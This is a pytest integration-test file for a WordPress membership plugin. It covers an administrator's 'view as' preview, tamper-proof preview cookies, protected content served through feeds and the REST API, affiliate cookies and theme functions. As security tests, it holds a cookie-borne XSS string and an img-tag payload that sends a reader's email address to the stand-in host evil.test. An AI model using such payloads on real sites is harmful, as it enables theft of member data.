"""Real WordPress, real sidecar: an administrator looks as somebody else; arrivals, theme functions, patterns by contributors."""

from __future__ import annotations

import html
import re

import pytest

from sidecar.access.rules import Denied
from sidecar.activity.store import list_events
from sidecar.db import reading
from tests.whole.club import Club

BODY = "XYZZY-LESSON"


@pytest.fixture(scope="module")
def gold(club: Club) -> int:
    """A level with a lesson, from day 5 on, that greets; Alice has it since today."""
    level = club.level("Gold & <Silver>")
    lesson = club.site.new_post(
        "Lesson", f"<p>Hello [MM_Member_Data name='firstName']! {BODY} [MM_Membr_Data]</p>"
    )
    closed = club.site.new_post("Sorry you", "closed")
    club.protect(lesson, level, from_day=5)
    club.protect(closed, level, denied=Denied.LOGIN)
    club.sync_index()
    club.member("alice", level, first_name="Alice <3")
    return level


class Administrator:
    """A browser that keeps cookies."""

    def __init__(self, club: Club, login: str = "admin") -> None:
        self.club, self.login, self.cookies = club, login, dict(club.site.cookies(login))

    def get(self, path: str):
        return self.club.site.get(path, cookies=self.cookies)

    def choose(self, path: str = "/lesson/", **fields: str):
        page = self.get(f"{path}?gatepost_preview=choose").text
        nonce = re.search(r'name="gatepost_preview_nonce" value="(\w+)"', page)
        form = {f"gatepost_preview[{name}]": value for name, value in fields.items()}
        answer = self.club.site.post(
            path, cookies=self.cookies, data={**form, "gatepost_preview_nonce": nonce[1] if nonce else ""}
        )
        self.cookies.update(answer.cookies.get_dict())
        return answer

    def bar(self, path: str = "/lesson/") -> str:
        text = self.get(path).text
        assert 'id="gatepost-preview"' in text
        return html.unescape(text[text.index('id="gatepost-preview"') :])


@pytest.fixture
def admin(club: Club, gold: int) -> Administrator:
    return Administrator(club)


def test_an_administrator_sees_the_real_page_as_a_visitor_and_as_himself_again(admin: Administrator) -> None:
    assert BODY in admin.get("/lesson/").text
    answer = admin.choose(level="0")
    assert (answer.status_code, answer.headers["Location"]) == (303, "/lesson/")
    page = admin.get("/lesson/")
    assert BODY not in page.text
    assert "This content is for members." in page.text
    assert page.headers["Cache-Control"] == "private, no-store"
    assert "You see this page as a visitor." in admin.bar()
    admin.choose(end="1")
    admin.cookies.pop("gatepost_preview", None)
    assert BODY in admin.get("/lesson/").text
    assert 'id="gatepost-preview"' not in admin.get("/lesson/").text


def test_as_any_level_status_and_day(admin: Administrator, gold: int) -> None:
    admin.choose(level=str(gold), days="4")
    assert BODY not in admin.get("/lesson/").text
    admin.choose(level=str(gold), days="5")
    assert BODY in admin.get("/lesson/").text
    assert "as Gold & <Silver>, Active, day 5." in admin.bar()
    admin.choose(level=str(gold), days="5", status="overdue")
    assert BODY not in admin.get("/lesson/").text


def test_as_one_member_and_nothing_of_it_is_in_the_log(admin: Administrator, club: Club) -> None:
    admin.choose(login="alice")
    page = admin.get("/lesson/").text
    assert BODY not in page
    assert "as alice." in admin.bar()
    with reading() as session:
        assert [event for event in list_events(session) if event.type == "page"] == []
    assert club.site.log("/plugins/gatepost/") == ""


def test_where_others_are_led_away_the_bar_says_so(admin: Administrator) -> None:
    admin.choose(level="0")
    page = admin.get("/sorry-you/")
    assert page.status_code == 403
    assert "From here one is led to" in admin.bar("/sorry-you/")


def test_the_bar_tells_what_is_wrong_in_the_text(admin: Administrator) -> None:
    admin.choose(level="0")
    assert "Line 1, column" in admin.bar()
    assert "There is no tag [MM_Membr_Data]. Did you mean [MM_Member_Data]?" in admin.bar()


def test_a_cookie_counts_for_nobody_else_and_not_when_anything_in_it_is_changed(
    admin: Administrator, club: Club, gold: int
) -> None:
    admin.choose(level=str(gold), days="5")
    cookie = admin.cookies["gatepost_preview"]
    bob = {**club.site.cookies("alice"), "gatepost_preview": cookie}
    for cookies in (bob, {"gatepost_preview": cookie}):
        page = club.site.get("/lesson/", cookies=cookies).text
        assert BODY not in page
        assert 'id="gatepost-preview"' not in page
    body, signature = cookie.split(".")
    another = f"{signature[:-1]}{'0' if signature[-1] != '0' else '1'}"
    for wrong in (f"{body}x.{signature}", f"{body}.{another}", body, ".", "%00"):
        page = club.site.get("/lesson/", cookies={**admin.cookies, "gatepost_preview": wrong}).text
        assert 'id="gatepost-preview"' not in page
    again = {
        **club.site.log_in("admin"),
        "gatepost_preview": cookie,
    }  # another session of the same administrator
    assert 'id="gatepost-preview"' not in club.site.get("/lesson/", cookies=again).text


def test_without_the_nonce_nothing_is_chosen_and_a_member_can_choose_nothing(
    admin: Administrator, club: Club
) -> None:
    answer = club.site.post("/lesson/", cookies=admin.cookies, data={"gatepost_preview[level]": "0"})
    assert (answer.status_code, "gatepost_preview" in answer.cookies) == (403, False)
    alice = Administrator(club, "alice")
    page = alice.get("/lesson/?gatepost_preview=choose").text
    assert 'id="gatepost-preview"' not in page
    assert "gatepost_preview" not in alice.choose(level="0").cookies


def test_who_edits_in_a_preview_gets_the_source(admin: Administrator, club: Club) -> None:
    admin.choose(level="0")
    post = club.site.php("echo get_page_by_path('lesson', OBJECT, 'post')->ID;")
    page = admin.get(f"/wp-admin/post.php?post={post}&action=edit").text
    assert "Gold" not in page or BODY in page
    assert BODY in page


def test_the_bar_fits_a_phone_and_a_desktop(club: Club, gold: int, new_page) -> None:
    for width in (390, 1280):
        page = new_page(club.site, "admin", width=width)
        page.goto("/lesson/?gatepost_preview=choose")
        page.select_option("#gatepost-preview select >> nth=0", str(gold))
        page.fill("#gatepost-preview input[type=number]", "5")
        page.click("#gatepost-preview button >> nth=0")
        assert page.locator("#gatepost-preview p").inner_text().endswith("day 5.")
        assert page.evaluate("document.querySelector('#gatepost-preview').scrollWidth") <= width


# --- pages that guard themselves ------------------------------------------------------------------------------------


def test_a_protected_page_that_says_itself_what_others_see_is_shown_at_every_door(
    club: Club, gold: int
) -> None:
    text = (
        "<p>PUBLIC-PART</p>[MM_Access_Decision access='true']<p>MEMBERS-PART</p>[/MM_Access_Decision]"
        "[MM_Access_Decision access='false']<p>JOIN-PART</p>[/MM_Access_Decision]"
    )
    post = club.site.new_post("Guards itself", text)
    club.protect(post, gold)
    club.sync_index()
    doors = (
        "/guards-itself/",
        f"/?p={post}",
        f"/wp-json/wp/v2/posts/{post}",
        "/feed/",
        "/guards-itself/feed/?withoutcomments=1",
    )
    for door in doors:
        shown = club.site.get(door, allow_redirects=True).text
        assert ("PUBLIC-PART" in shown) == ("JOIN-PART" in shown)
        assert "MEMBERS-PART" not in shown
        assert "MM_Access" not in shown
    visitor = club.site.get("/guards-itself/")
    assert (visitor.status_code, "JOIN-PART" in visitor.text) == (200, True)
    member = club.site.get("/guards-itself/", user="alice").text
    assert "MEMBERS-PART" in member
    assert "JOIN-PART" not in member
    found = club.site.get("/wp-json/wp/v2/posts?search=MEMBERS-PART").json()
    assert found == []


# --- how somebody came ----------------------------------------------------------------------------------------------


def test_an_affiliate_and_a_parameter_are_remembered_beyond_the_first_page(club: Club) -> None:
    club.site.new_post(
        "Offer",
        "[MM_Affiliate_Decision affiliate='anna']Anna sent you[/MM_Affiliate_Decision]"
        "[MM_Custom_Decision source='letter'] by letter[/MM_Custom_Decision].",
    )
    first = club.site.get("/offer/?affid=anna&source=letter&payment_intent=pi_1&bad name=x")
    assert "Anna sent you by letter." in first.text
    assert first.headers["Cache-Control"] == "private, no-store"
    cookie = first.headers["Set-Cookie"]
    assert "HttpOnly" in cookie
    assert "payment_intent" not in cookie
    kept = first.cookies.get_dict()
    assert "Anna sent you by letter." in club.site.get("/offer/", cookies=kept).text
    assert "Anna" not in club.site.get("/offer/").text
    assert "Anna" not in club.site.get("/offer/?affid=bob", cookies=kept).text
    assert "Set-Cookie" not in club.site.get("/offer/").headers
    other = club.site.get("/offer/?utm_campaign=x&fbclid=y")
    assert "Set-Cookie" not in other.headers  # no text asks for these
    club.site.new_post("Campaign", "[MM_Custom_Decision utm_campaign='x']Campaign X[/MM_Custom_Decision]")
    assert "utm_campaign" in club.site.get("/offer/?utm_campaign=x").headers["Set-Cookie"]


def test_who_asks_for_consent_first_can_refuse_the_cookie(club: Club) -> None:
    plugin = club.site.mu_plugin("consent", "add_filter('gatepost_keep_arrival', '__return_false');")
    assert "Set-Cookie" not in club.site.get("/offer/?affid=anna").headers
    plugin.unlink()


@pytest.mark.parametrize(
    "cookie", ["affid[]=x", "%ff%fe", "a" * 9000, "affid=<script>alert(1)</script>", "x=" + "[MM_Form]"]
)
def test_a_cookie_is_anybody_s_invention(club: Club, cookie: str) -> None:
    answer = club.site.get("/offer/", cookies={"gatepost_arrival": cookie})
    assert answer.status_code in {200, 400}
    assert "<script>alert" not in answer.text
    assert club.site.log("/plugins/gatepost/") == ""


# --- theme code -----------------------------------------------------------------------------------------------------


def test_theme_code_asks_under_the_names_that_membermouse_users_know(club: Club, gold: int) -> None:
    code = f"""
    add_action('wp_footer', function () {{
        echo '<i id="name">' . mm_member_data(array('name' => 'firstName')) . '</i>';
        echo '<i id="is">' . (mm_member_decision(array('isMember' => 'true', 'membershipId' => '{gold}')) ? 'yes' : 'no') . '</i>';
        echo '<i id="visitor">' . (mm_member_decision(array('isMember' => 'false')) ? 'yes' : 'no') . '</i>';
        echo '<i id="login">' . mm_corepage_link(array('type' => 'login')) . '</i>';
        echo '<i id="wrong">' . mm_member_data(array('name' => 'user_pass')) . '</i>';
        echo '<i id="access">' . (mm_access_decision(array('access' => 'true')) ? 'yes' : 'no') . '</i>';
    }});
    """
    plugin = club.site.mu_plugin("theme", code)

    def told(path: str, **options):
        return dict(re.findall(r'<i id="(\w+)">(.*?)</i>', club.site.get(path, **options).text))

    member, visitor = told("/sorry-you/", user="alice"), told("/offer/")
    plugin.unlink()
    assert member["name"] == "Alice &lt;3"
    assert (member["is"], member["visitor"], member["wrong"], member["access"]) == ("yes", "no", "", "yes")
    assert (visitor["name"], visitor["is"], visitor["visitor"], visitor["access"]) == ("", "no", "yes", "yes")
    assert visitor["login"].endswith("/wp-login.php")


# --- whose text it is -----------------------------------------------------------------------------------------------

LEAK = '<img src="https://evil.test/{}?[MM_Member_Data name=email]">'


@pytest.mark.parametrize(("role", "leaves"), [("contributor", False), ("author", False), ("editor", True)])
def test_the_reader_s_address_leaves_in_no_text_of_who_may_not_see_it(
    club: Club, gold: int, role: str, leaves: bool
) -> None:
    writer, leak = club.site.user(f"writer-{role}", role=role), LEAK.format(role)
    club.site.new_post(f"By {role}", leak, post_author=writer)
    pattern = club.site.new_post(f"Pattern {role}", leak, type="wp_block", post_author=writer)
    club.site.new_post(f"With {role}", f'<!-- wp:block {{"ref":{pattern}}} /-->', post_author=1)
    for path in (f"/by-{role}/", f"/with-{role}/", f"/with-{role}/"):
        text = html.unescape(club.site.get(path, user="alice").text)
        assert f"evil.test/{role}?" in text
        assert (f"evil.test/{role}?alice" in text) is leaves
